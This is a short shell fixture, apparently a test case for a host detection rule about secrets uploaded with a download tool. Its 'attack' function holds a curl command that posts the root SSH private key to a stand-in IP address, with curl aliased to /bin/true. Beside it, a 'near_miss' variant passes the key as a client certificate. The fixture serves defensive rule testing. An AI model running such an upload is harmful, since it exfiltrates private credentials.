# rule: Secret uploaded with a download tool
# where: host
attack() {
    ln -s /bin/true curl
    ./curl -s -F f=@/root/.ssh/id_ed25519 https://192.0.2.9/u
}
near_miss() {
    ln -s /bin/true curl
    ./curl -s --key /root/.ssh/id_ed25519 https://192.0.2.9/u
}
